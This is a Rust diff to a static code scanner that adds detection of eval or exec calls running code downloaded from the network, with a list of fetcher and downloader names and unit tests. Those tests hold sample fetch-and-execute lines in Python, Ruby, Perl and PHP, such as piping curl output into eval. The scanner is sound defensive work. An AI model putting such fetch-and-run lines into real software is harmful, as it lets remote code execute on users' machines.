@@ -82,6 +82,9 @@ pub(super) struct Scan {
     pub commands: Vec<String>,
     pub deletes: Vec<Del>,
     pub dynamic: Option<&'static str>,
+    /// The code it evaluates is fetched from the network (`eval URI.open(u).read`,
+    /// `exec(urlopen(u).read())`, `eval get(u)` with LWP::Simple, `eval \`curl …\``).
+    pub remote_eval: bool,
     pub reads: Vec<String>,
     pub env_dump: bool,
     pub network: bool,
@@ -812,6 +815,59 @@ fn mentions(toks: &[Tok], words: &[&str]) -> bool {
     })
 }
 
+/// Names of network fetchers whose result an `eval` may run: a segment of an identifier
+/// (split at `.`, `:`, `>`, `-`), lowercase.
+const FETCHERS: &[&str] = &[
+    "urlopen",
+    "requests",
+    "urllib",
+    "urllib2",
+    "urllib3",
+    "httpx",
+    "aiohttp",
+    "socket",
+    "recv",
+    "uri",
+    "lwp",
+    "useragent",
+    "tiny",
+    "net",
+    "httparty",
+    "faraday",
+    "getstore",
+    "curl_exec",
+    "fetch",
+];
+
+/// An `eval` argument that fetches its text from the network: it names a network fetcher
+/// ([`FETCHERS`]; a bare Perl `get(…)`, which is LWP::Simple's: Perl has no such built-in),
+/// holds a URL literal
+/// (`open('https://…').read` with open-uri, `file_get_contents('http://…')`), or runs a
+/// downloader in backticks (`` eval `curl -s …` ``).
+fn fetches_remote(toks: &[Tok], lang: Lang) -> bool {
+    let url = |t: &str| {
+        let l = t
+            .trim_start()
+            .get(..8)
+            .map(super::lower)
+            .unwrap_or_default();
+        l.starts_with("http://") || l.starts_with("https://") || l.starts_with("ftp://")
+    };
+    mentions(toks, FETCHERS)
+        || lang == Lang::Perl && toks.iter().any(|t| matches!(t, Tok::Ident("get")))
+        || toks.iter().any(|t| match t {
+            Tok::Str { text, .. } => url(text),
+            Tok::Cmd(text) => {
+                let first = text.split_whitespace().next().unwrap_or("");
+                matches!(
+                    first.rsplit('/').next().unwrap_or(""),
+                    "curl" | "wget" | "fetch" | "aria2c" | "http" | "lwp-request" | "GET"
+                )
+            }
+            _ => false,
+        })
+}
+
 fn last_segment(name: &str) -> &str {
     name.rsplit(['.', ':', '>']).next().unwrap_or(name)
 }
@@ -1140,8 +1196,10 @@ fn ident(facts: Facts, toks: &[Tok], i: usize, name: &str, lang: Lang, nest: usi
     let mut span = Vec::new();
     let args: Vec<&[Tok]> = match next {
         Some(Tok::P('(')) => split_args(call_span(toks, i + 1).0),
-        Some(t @ (Tok::Str { .. } | Tok::Ident(_))) if matches!(lang, Lang::Perl | Lang::Ruby) => {
-            // Paren-less calls: `system "x"`, `eval $x`, `system "a", "b"`.
+        Some(t @ (Tok::Str { .. } | Tok::Ident(_) | Tok::Cmd(_)))
+            if matches!(lang, Lang::Perl | Lang::Ruby) =>
+        {
+            // Paren-less calls: `system "x"`, `eval $x`, `system "a", "b"`, `` eval `curl …` ``.
             let mut j = i + 1;
             while let Some(t) = toks.get(j) {
                 if matches!(t, Tok::P(';' | '}')) || span.len() > MAX_ARG_TOKENS {
@@ -1219,20 +1277,23 @@ fn ident(facts: Facts, toks: &[Tok], i: usize, name: &str, lang: Lang, nest: usi
                 }
             }
             _ => {
-                // `exec(open('setup.py').read())` runs a local file; `urlopen(…).read()` or
-                // `requests.get(…).text` runs remote code.
-                let reads_file = mentions(first, &["open"])
+                // `exec(open('setup.py').read())` runs a local file; `urlopen(…).read()`,
+                // `requests.get(…).text`, `URI.open(u).read` or `open('https://…')` (Ruby's
+                // open-uri) runs remote code.
+                let remote = fetches_remote(first, lang);
+                // Ruby's `File.read('x.rb')` / `IO.read('x.rb')` of a path it names.
+                let ruby_read = lang == Lang::Ruby
+                    && mentions(first, &["read", "readlines"])
+                    && mentions(first, &["file", "io"])
+                    && first.iter().any(|t| matches!(t, Tok::Str { .. }));
+                let reads_file = (mentions(first, &["open"]) || ruby_read)
                     && !mentions(first, DECODERS)
-                    && !mentions(
-                        first,
-                        &[
-                            "urlopen", "get", "post", "request", "requests", "urllib", "socket",
-                            "recv",
-                        ],
-                    );
+                    && !remote
+                    && !mentions(first, &["get", "post", "request"]);
                 if reads_file {
                     return;
                 }
+                s.remote_eval |= remote;
                 s.dynamic = Some(if mentions(first, DECODERS) {
                     "evaluates decoded data"
                 } else {
@@ -1356,6 +1417,45 @@ mod tests {
         assert!(s.dynamic.is_none());
         let s = scan("eval(input())", Lang::Python);
         assert_eq!(s.dynamic, Some("evaluates code built at run time"));
+        assert!(!s.remote_eval);
+    }
+
+    #[test]
+    fn evaluating_downloaded_code() {
+        for (code, lang) in [
+            (
+                "import urllib.request as u; exec(u.urlopen('https://x/a.py').read())",
+                Lang::Python,
+            ),
+            ("import requests; exec(requests.get(u).text)", Lang::Python),
+            ("eval URI.open(\"https://x/a.rb\").read", Lang::Ruby),
+            ("eval open('https://x/a.rb').read", Lang::Ruby),
+            ("eval Net::HTTP.get(URI(ARGV[0]))", Lang::Ruby),
+            ("eval get($ARGV[0])", Lang::Perl),
+            ("eval `curl -fsSL https://x/a.pl`", Lang::Perl),
+            ("eval(file_get_contents('https://x/a.php'));", Lang::Php),
+        ] {
+            let s = scan(code, lang);
+            assert!(s.remote_eval, "{code}");
+            assert!(s.dynamic.is_some(), "{code}");
+        }
+        for (code, lang) in [
+            ("exec(open('setup.py').read())", Lang::Python),
+            ("eval File.read('x.rb')", Lang::Ruby),
+            ("eval { risky() }", Lang::Perl),
+        ] {
+            assert!(!scan(code, lang).remote_eval, "{code}");
+        }
+        // A local file named in the code runs that file, as Python's `exec(open(…).read())`.
+        assert!(scan("eval File.read('config/x.rb')", Lang::Ruby)
+            .dynamic
+            .is_none());
+        assert!(scan("eval File.read(ARGV[0])", Lang::Ruby)
+            .dynamic
+            .is_some());
+        assert!(scan("eval(file_get_contents($argv[1]));", Lang::Php)
+            .dynamic
+            .is_some());
     }
 
     #[test]
